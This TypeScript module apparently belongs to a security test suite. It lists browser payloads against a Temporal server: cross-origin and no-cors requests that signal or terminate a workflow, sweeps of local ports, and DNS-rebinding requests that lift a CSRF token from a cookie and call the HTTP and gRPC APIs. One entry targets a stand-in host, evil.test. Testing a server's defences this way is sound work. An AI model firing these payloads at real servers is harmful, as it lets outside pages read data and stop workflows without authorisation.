/**
 * Attacks on Temporal that bypass the API: by the Web UI, and by every port on which the server listens.
 */
import type { Attack } from './ways';

const SIGNAL = '/api/v1/namespaces/default/workflows/shop.b1/signal/pause';
const END = '/api/v1/namespaces/default/workflows/shop.b1/terminate';
const TOKEN = '(/_csrf=([^;]*)/.exec(document.cookie) ?? [])[1] ?? ""';
/** The body of a signal with one argument, in the JSON of Temporal's HTTP API. */
const ARGUMENT = JSON.stringify({
  input: { payloads: [{ metadata: { encoding: inBase64('json/plain') }, data: inBase64('{"reason":"by a page"}') }] },
});
const withToken = (path: string, body: string) =>
  `read("/").then((page) => read("${path}", { ...json, body: ${JSON.stringify(body)}, headers: { ...json.headers, "x-csrf-token": ${TOKEN} } }).then((answer) => page + answer))`;
const onEachPort = (path: string, init = '{}') =>
  `Promise.all(targets.otherPorts.map((port) => read("http://127.0.0.1:" + port + "${path}", ${init}))).then(String)`;

/** Attacks from a page of another origin. */
export const TEMPORAL_ATTACKS: Attack[] = [
  { name: 'fetch from the Web UI', code: 'read(targets.ui + "/api/v1/namespaces")' },
  {
    name: 'signal by the Web UI',
    code: `read(targets.ui + "${SIGNAL}", { ...text, body: ${JSON.stringify(ARGUMENT)}, mode: "no-cors", credentials: "include" })`,
  },
  { name: 'form to the Web UI', code: `submitForm(targets.ui + "${END}", { reason: "x" })` },
  { name: 'frame with the Web UI', code: 'readFrame(targets.ui + "/namespaces/default/workflows")' },
  { name: 'image of the Web UI', code: 'waitForLoad(make("img", { src: targets.ui + "/favicon.ico" }))' },
  { name: 'fetch from every port', code: onEachPort('/api/v1/namespaces') },
  { name: 'fetch of the metrics', code: onEachPort('/metrics') },
  { name: 'end by every port', code: onEachPort(END, '{ ...text, body: "{}", mode: "no-cors" }') },
  {
    name: 'every port by a name of the attacker',
    code: 'Promise.all(targets.otherPorts.map((port) => read("http://evil.test:" + port + "/metrics"))).then(String)',
  },
];

/** Attacks from a page whose own name leads to the Web UI. */
export const WEB_UI_REBINDING_ATTACKS: Attack[] = [
  { name: 'namespaces', code: 'read("/api/v1/namespaces")' },
  { name: 'workflows', code: 'read("/api/v1/namespaces/default/workflows")' },
  { name: 'settings', code: 'read("/api/v1/settings")' },
  { name: 'page', code: 'read("/")' },
  { name: 'signal with the token of its cookie', code: withToken(SIGNAL, ARGUMENT) },
  { name: 'end with the token of its cookie', code: withToken(END, '{}') },
];

/** Attacks from a page whose own name leads to the gRPC port. */
export const GRPC_REBINDING_ATTACKS: Attack[] = [
  {
    name: 'call',
    code: 'read("/temporal.api.workflowservice.v1.WorkflowService/ListNamespaces", { method: "POST", headers: { "content-type": "application/grpc" }, body: new Uint8Array(5) })',
  },
  { name: 'GET', code: 'read("/api/v1/namespaces")' },
];

function inBase64(text: string): string {
  return Buffer.from(text).toString('base64');
}
